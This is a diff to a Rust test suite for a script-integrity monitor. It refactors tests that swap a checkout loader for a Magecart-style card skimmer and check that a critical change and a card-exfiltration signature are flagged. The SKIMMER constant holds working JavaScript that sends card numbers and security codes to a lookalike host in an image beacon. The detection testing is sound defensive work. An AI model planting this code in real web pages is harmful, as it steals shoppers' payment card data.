@@ -120,6 +120,40 @@ async fn check(app: &TestApp, page_id: &str) -> Value {
     result
 }
 
+/// A card skimmer of the Magecart kind: on submit, the card fields go to
+/// another origin in an image beacon.
+const SKIMMER: &str = "document.addEventListener('submit', function () {\n\
+          var d = ['card_number', 'security_code'].map(function (n) { return document.getElementsByName(n)[0].value; });\n\
+          new Image().src = 'https://jquery-cdn-cloud.example/pixel.gif?d=' + btoa(d.join('|'));\n\
+        }, true);\n";
+
+/// `script` was fetched: the 33 bytes `serve_site` starts the loader with, hashed.
+fn assert_fetched_and_hashed(script: &Value) {
+    assert_eq!(script["length"], 33, "{script}");
+    assert!(
+        script["sha384"]
+            .as_str()
+            .is_some_and(|h| h.starts_with("sha384-")),
+        "{script}"
+    );
+}
+
+/// The check after [`SKIMMER`] replaced an authorised script's body at the
+/// same address: a critical change, and the signature that names it.
+fn assert_skimmer_swapped_in(result: &Value) {
+    let found = kinds(result);
+    assert!(
+        found.contains(&("page_script_changed".to_owned(), "critical".to_owned())),
+        "{result}"
+    );
+    assert!(
+        found.iter().any(|(kind, _)| kind == "page_script_signature"),
+        "{result}"
+    );
+    let lines = result["findings"].to_string();
+    assert!(lines.contains("skimmer.card-exfiltration"), "{lines}");
+}
+
 fn kinds(result: &Value) -> Vec<(String, String)> {
     result["findings"]
         .as_array()
@@ -340,35 +374,13 @@ async fn a_script_changed_at_the_same_address_is_found_by_its_hash_and_signature
     let page = register(&app, &tenant, &format!("{base}/checkout"), "http").await;
     let id = page["id"].as_str().expect("id").to_owned();
     let first = check(&app, &id).await;
-    let script = &first["inventory"]["scripts"][0];
-    assert_eq!(script["length"], 33, "{script}");
-    assert!(
-        script["sha384"]
-            .as_str()
-            .is_some_and(|h| h.starts_with("sha384-")),
-        "{script}"
-    );
+    assert_fetched_and_hashed(&first["inventory"]["scripts"][0]);
     authorise_all(&app, &id, &first).await;
     assert!(kinds(&check(&app, &id).await).is_empty());
 
-    let skimmer = "window.shop = {currency: 'JPY'};\n\
-        document.addEventListener('submit', function () {\n\
-          var d = ['card_number', 'security_code'].map(function (n) { return document.getElementsByName(n)[0].value; });\n\
-          new Image().src = 'https://jquery-cdn-cloud.example/pixel.gif?d=' + btoa(d.join('|'));\n\
-        }, true);\n";
-    *site.loader.lock().expect("lock") = skimmer.to_owned();
+    *site.loader.lock().expect("lock") = format!("window.shop = {{currency: 'JPY'}};\n{SKIMMER}");
     let result = check(&app, &id).await;
-    let found = kinds(&result);
-    assert!(
-        found.contains(&("page_script_changed".to_owned(), "critical".to_owned())),
-        "{result}"
-    );
-    assert!(
-        found.iter().any(|(kind, _)| kind == "page_script_signature"),
-        "{result}"
-    );
-    let lines = result["findings"].to_string();
-    assert!(lines.contains("skimmer.card-exfiltration"), "{lines}");
+    assert_skimmer_swapped_in(&result);
     // The signature alert is in the alert list once, however often the page is checked.
     check(&app, &id).await;
     let raised: Vec<Value> = alerts(&app)
@@ -702,33 +714,12 @@ async fn browser_mode_finds_a_run_time_script_changed_at_the_same_address() {
         .find(|s| s["runtime"] == true)
         .unwrap_or_else(|| panic!("no run-time script: {scripts:?}"));
     assert_eq!(inserted["src"], format!("{base}/js/loader.js"));
-    assert_eq!(inserted["length"], 33, "{inserted}");
-    assert!(
-        inserted["sha384"]
-            .as_str()
-            .is_some_and(|h| h.starts_with("sha384-")),
-        "{inserted}"
-    );
+    assert_fetched_and_hashed(inserted);
     authorise_all(&app, &id, &first).await;
     assert!(kinds(&check(&app, &id).await).is_empty());
 
-    *site.loader.lock().expect("lock") = "document.addEventListener('submit', function () {\n\
-          var d = ['card_number', 'security_code'].map(function (n) { return document.getElementsByName(n)[0].value; });\n\
-          new Image().src = 'https://jquery-cdn-cloud.example/pixel.gif?d=' + btoa(d.join('|'));\n\
-        }, true);\n"
-        .to_owned();
-    let result = check(&app, &id).await;
-    let found = kinds(&result);
-    assert!(
-        found.contains(&("page_script_changed".to_owned(), "critical".to_owned())),
-        "{result}"
-    );
-    assert!(
-        result["findings"]
-            .to_string()
-            .contains("skimmer.card-exfiltration"),
-        "{result}"
-    );
+    *site.loader.lock().expect("lock") = SKIMMER.to_owned();
+    assert_skimmer_swapped_in(&check(&app, &id).await);
 }
 
 /// Browser mode's SSRF guard: Chromium reaches the network only through the
